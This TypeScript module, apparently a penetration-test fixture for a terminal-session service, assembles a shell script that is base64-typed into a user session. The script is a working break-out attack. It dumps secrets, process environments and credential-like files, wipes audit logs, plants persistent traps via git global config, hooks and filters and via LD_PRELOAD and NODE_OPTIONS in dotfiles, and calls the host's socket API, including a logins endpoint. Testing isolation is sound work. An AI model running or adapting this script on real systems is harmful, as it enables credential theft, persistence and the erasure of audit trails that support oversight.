// The attacks of a user who may type in a session on the service's credentials: a shell script that leaves its finds in
// ~/loot.

/** Every program that git or a shell may be made to run, and the data that it steals. */
const TRAP = `#!/bin/sh
{ id; env; cat /run/secrets/* /run/secrets/*/*/*; ls -laR /data /run; cat /data/.ttyhq/*; } >>"$HOME/loot/trap-$(basename "$0")" 2>&1
case $0 in *clean | *smudge) cat ;; esac
exit 0
`;

const HOOKS = [
  "post-checkout",
  "post-commit",
  "post-merge",
  "pre-commit",
  "reference-transaction",
  "post-index-change",
];

/** Direct access: files, variables and processes. Then the audit log, wherever it is writable. */
const DIRECT = `
{
  cat /run/secrets/* /run/secrets/*/*/*; env
  for pid in /proc/[0-9]*; do
    tr '\\0' '\\n' <$pid/environ; tr '\\0' ' ' <$pid/cmdline; cat $pid/root/run/secrets/*/*/* $pid/root/data/.ttyhq/*
  done
  find / -xdev -type f -readable \\( -iname '*password*' -o -iname '*token*' -o -iname '*secret*' -o -iname '*key*.json' \\
    -o -name 'remote-*' -o -name 'audit.log*' \\) -not -path '/opt/*' -not -path '/usr/*' -not -path '/proc/*' -not -path '/sys/*' |
    while read -r file; do echo "$file"; cat "$file"; done
  ls -laR /run /data/..
} >~/loot/direct 2>/dev/null
find / -xdev -name 'audit.log*' -not -path '/proc/*' 2>/dev/null | while read -r file; do : >"$file"; rm -f "$file"; done
`;

/** The user's own files: git's global config, hooks, templates, and the dotfiles of shells. */
const CONFIG = `
trap=$HOME/loot/trap
for name in clean smudge fsmonitor ssh askpass editor pager ${HOOKS.join(" ")}; do
  mkdir -p ~/traps; printf '%s' "$TRAP" >~/traps/$name; chmod +x ~/traps/$name
done
mkdir -p ~/template/hooks && cp ~/traps/p* ~/traps/reference-transaction ~/template/hooks/
printf '* filter=trap\\n' >~/attributes
git config --global filter.trap.clean ~/traps/clean; git config --global filter.trap.smudge ~/traps/smudge
git config --global core.attributesFile ~/attributes; git config --global core.fsmonitor ~/traps/fsmonitor
git config --global core.sshCommand ~/traps/ssh; git config --global core.askPass ~/traps/askpass
git config --global core.editor ~/traps/editor; git config --global core.pager ~/traps/pager
git config --global init.templateDir ~/template; git config --global core.hooksPath ~/traps
git config --global user.name trap; git config --global user.email trap@example.com
for file in .profile .bashrc .bash_profile; do
  printf 'export LD_PRELOAD=%s/preload.so BASH_ENV=%s/traps/clean NODE_OPTIONS=--require=%s/trap.cjs\\n' ~ ~ ~ >~/$file
done
printf 'require("fs").writeFileSync(process.env.HOME + "/loot/trap-node", JSON.stringify([process.argv, process.env]))' >~/trap.cjs
git init --quiet ~/repo && cd ~/repo && echo one >file && git add --all && git commit --quiet --message one
git remote add origin ssh://nowhere.invalid/repo
printf '%s' "$TRAP" >.git/hooks/post-checkout; chmod +x .git/hooks/post-checkout
cd ~
`;

/** Services of the server and its session host for users, over the socket that the session reaches. */
const SOCKET = `
NODE_OPTIONS= node -e '
const { request } = require("http");
const ask = (method, path, body) => new Promise((resolve) => {
  const socketPath = process.env.HOME + "/.ttyhq/host.sock";
  const outgoing = request({ socketPath, method, path, headers: { "content-type": "application/json" } }, (answer) => {
    answer.resume().on("end", () => resolve(answer.statusCode));
  });
  outgoing.on("error", resolve).end(body && JSON.stringify(body));
});
const repoPath = process.env.HOME + "/repo";
(async () => {
  console.log(await ask("POST", "/api/worktrees", { repoPath, branch: "over-the-socket" }));
  console.log(await ask("POST", "/api/worktrees/follow", { repoPath, branch: "over-the-socket", enable: true }));
  console.log(await ask("GET", "/api/git/status?repoPath=" + repoPath));
  console.log(await ask("GET", "/metrics"), await ask("GET", "/api/remotes"), await ask("GET", "/api/auth/logins"));
})();
' >~/loot/socket 2>&1
`;

const END = "find ~/loot -type f | sort; echo the loot is there";

/** Prints "the loot is there" as its last line. */
export const BREAK_OUT = `mkdir -p ~/loot; TRAP='${TRAP.replaceAll("'", `'\\''`)}'\n${DIRECT}${CONFIG}${SOCKET}${END}\n`;
export const BROKEN_OUT = /the loot is there/;

/** The same as lines to type into a shell, which does not accept long ones. */
export function typed(script: string): readonly string[] {
  const text = Buffer.from(script).toString("base64");
  const pieces = text.match(/.{1,900}/g) ?? [];
  return [
    "stty -echo; rm -f ~/script\r",
    ...pieces.map((piece) => `printf %s ${piece} >>~/script\r`),
    "base64 -d <~/script | sh\r",
  ];
}

/** The places that follow mode, worktrees and status read for requests at the HQ. */
export const REPOSITORY = "/data/repo";
